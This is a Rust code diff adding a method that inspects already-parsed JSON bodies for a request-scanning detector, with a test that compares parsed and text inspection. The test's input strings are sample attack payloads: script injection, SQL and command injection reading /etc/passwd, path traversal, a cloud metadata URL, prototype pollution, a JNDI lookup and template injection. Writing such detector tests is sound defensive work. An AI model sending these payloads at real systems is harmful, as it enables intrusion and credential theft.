@@ -480,6 +480,50 @@ impl<'s> Inspector<'s> {
         ok
     }
 
+    /// A JSON body another check has already parsed (the contract's strict parse): the same
+    /// keys and strings as [`Inspector::json`] sees, with the same locations, without reading
+    /// the text a second time.
+    pub fn json_value(&mut self, value: &serde_json::Value) {
+        fn visit<'v>(
+            me: &mut Inspector<'_>,
+            v: &'v serde_json::Value,
+            path: &mut Vec<json::Seg<'v>>,
+        ) {
+            match v {
+                serde_json::Value::String(s) => {
+                    let p = json::Path(path);
+                    me.value(Place::JsonString, s, Encoding::Plain, || {
+                        format!("body.{p}")
+                    });
+                }
+                serde_json::Value::Array(items) => {
+                    for (i, item) in items.iter().enumerate() {
+                        path.push(json::Seg::Index(i));
+                        visit(me, item, path);
+                        path.pop();
+                    }
+                }
+                serde_json::Value::Object(map) => {
+                    for (key, item) in map {
+                        let p = json::Path(path);
+                        me.value(Place::JsonKey, key, Encoding::Plain, || {
+                            if p.0.is_empty() {
+                                format!("body.{}", location_key(key))
+                            } else {
+                                format!("body.{p}.{}", location_key(key))
+                            }
+                        });
+                        path.push(json::Seg::Key(key.as_str().into()));
+                        visit(me, item, path);
+                        path.pop();
+                    }
+                }
+                _ => {}
+            }
+        }
+        visit(self, value, &mut Vec::new());
+    }
+
     /// A body inspected as one value (XML, text, or JSON that did not parse).
     pub fn text(&mut self, body: &str) {
         self.value(Place::Body, body, Encoding::Plain, || "body".to_string());
@@ -597,6 +641,33 @@ mod tests {
         let mut i = Inspector::new(settings, 1 << 20);
         f(&mut i);
         i.finish()
+    }
+
+    /// What a report says, in an order that does not depend on the order members were visited.
+    fn sorted(mut r: Report) -> Report {
+        r.findings
+            .sort_by(|a, b| (&a.location, a.rule).cmp(&(&b.location, b.rule)));
+        r
+    }
+
+    // The contract's parsed body is inspected exactly as its text would be.
+    #[test]
+    fn a_parsed_body_reports_what_its_text_reports() {
+        let s = Settings::default();
+        for text in [
+            r#"{"user": {"bio": "<script>alert(1)</script>", "$where": "1"}}"#,
+            r#"{"items": [{"note": "1' OR '1'='1"}, {"note": "fine"}], "q": "; cat /etc/passwd"}"#,
+            r#"{"a b.c": {"../../etc/passwd": "x"}, "url": "http://169.254.169.254/latest/meta-data"}"#,
+            r#"{"esc": "\u003cscript\u003ealert(1)\u003c/script\u003e", "n": [1, 2.5, true, null]}"#,
+            r#"{"__proto__": {"admin": true}, "t": "${jndi:ldap://x.example/a}", "": ""}"#,
+            r#"[["deep", ["er", {"k": "{{7*7}}"}]], "O'Brien ordered a blue shirt; union of sizes"]"#,
+        ] {
+            let parsed: serde_json::Value = serde_json::from_str(text).unwrap();
+            let from_text = sorted(report(|i| assert!(i.json(text)), &s));
+            let from_value = sorted(report(|i| i.json_value(&parsed), &s));
+            assert!(!from_text.findings.is_empty(), "{text}");
+            assert_eq!(from_value, from_text, "{text}");
+        }
     }
 
     #[test]
